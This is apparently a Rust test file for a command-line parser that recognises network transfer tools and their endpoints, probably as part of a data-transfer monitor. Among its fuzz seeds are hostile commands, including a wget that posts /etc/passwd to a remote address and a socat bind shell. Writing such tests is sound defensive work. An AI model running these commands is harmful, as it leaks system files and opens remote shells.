//! Any command line is understood, or is no tool's; and what that costs.

use std::hint::black_box;
use std::time::Instant;

use proptest::prelude::*;

use super::*;

/// Names of tools and of what is none.
const NAMES: [&str; 29] = [
    "curl", "busybox", "python3", "wget", "aria2c", "ftp", "lftp", "tftp", "ftpget", "rsync", "scp", "sftp",
    "ssh", "nc", "ncat", "socat", "openssl", "docker", "kubectl", "axel", "ls", "aws", "mc", "az", "gcloud",
    "gsutil", "azcopy", "rclone", "restic",
];

proptest! {
    #[test]
    fn any_words_are_understood(
        name in prop::sample::select(NAMES.to_vec()),
        words in prop::collection::vec("(-{0,2}[a-zA-Z]{0,12}|-{1,2}[a-zA-Z@:=/-]{0,6}|[a-z]{0,5}(://)?[\\[\\]@:=/a-z0-9.é]{0,12}|\\PC{0,6})", 0..12),
    ) {
        let mut words = words;
        words.insert(0, name.to_owned());
        let image = format!("/usr/bin/{name}");
        let command = understand(std::iter::once(image.as_str()), &words);
        prop_assert!(name != "ls" || command.is_none());
        if let Some(transfer) = command.as_deref().and_then(|command| command.transfer.as_ref()) {
            prop_assert!(transfer.remotes.len() <= 16 && transfer.locals.len() <= 16);
        }
    }
}

#[test]
fn fuzzed_command_lines_are_understood_or_left() {
    let lines = [
        "curl -sSL -H Accept:text/plain --connect-timeout 5 --output /tmp/tool https://u@h.example:8443/tool",
        "wget -qO- --post-file=/etc/passwd http://10.0.0.2/x",
        "rsync -avz -e ssh /data u@[fe80::1]:/in",
        "scp -P 2222 -J jump a b u@h:/in",
        "ssh -o ProxyCommand=x -R 8022:localhost:22 -D 1080 u@h cat",
        "socat TCP4-LISTEN:80,fork EXEC:/bin/sh",
        "openssl s_client -connect h:443 -quiet",
        "aws --region eu-west-1 s3 cp f s3://b/k",
        "az storage blob upload --account-name a --file f",
        "gsutil -m cp -r d gs://b",
        "rclone copy --config /c d remote:b",
        "kubectl cp shop/web:/a b -c web",
        "busybox ftpput -u u h remote local",
    ];
    let seeds = lines.map(|line| line.replace(' ', "\0").into_bytes());
    crate::fuzz::run(&seeds, |bytes, dice| {
        let text = crate::octet::text(bytes);
        let words: Vec<String> = text.split('\0').map(str::to_owned).collect();
        let image = format!("/usr/bin/{}", NAMES[dice.roll(NAMES.len())]);
        let images = [image.as_str(), words[0].as_str()];
        let Some(command) = understand(images[..=dice.roll(2)].iter().copied(), &words) else { return };
        if let Some(transfer) = &command.transfer {
            assert!(transfer.remotes.len() <= 16 && transfer.locals.len() <= 16);
        }
        // What is kept of a line is no multiple of it.
        assert!(command.size() <= size_of::<Command>() + 4_096 + 64 * bytes.len(), "{words:?}");
    });
}

/// The fastest of many rounds, in nanoseconds a line: what else the machine does is not in it.
fn cost(line: &str) -> u128 {
    const LINES: u32 = 2_000;
    const ROUNDS: u32 = 400;
    let words: Vec<String> = line.split(' ').map(str::to_owned).collect();
    let image = format!("/usr/bin/{}", words[0]);
    let round = |_| {
        let began = Instant::now();
        for _ in 0..LINES {
            black_box(understand(black_box([image.as_str(), words[0].as_str()]).into_iter(), &words));
        }
        began.elapsed().as_nanos() / u128::from(LINES)
    };
    (0..ROUNDS).map(round).min().unwrap_or_default()
}

#[test]
#[ignore = "measures: wants --release"]
fn what_understanding_costs() {
    for (line, bound) in [
        (
            "curl -sSL -H Accept:text/plain --connect-timeout 5 --output /tmp/tool https://u@h.example:8443/tool",
            5_000,
        ),
        ("rsync -avz -e ssh /data u@h:/in", 5_000),
        ("aws --region eu-west-1 s3 cp f s3://b/k", 5_000),
        ("ls -l /tmp /usr/bin/curl", 100),
        ("postgres -D /var/lib/postgresql/data", 100),
    ] {
        let cost = cost(line);
        println!("{cost:>5} ns  {line}");
        assert!(cost < bound, "{cost} ns: {line}");
    }
}
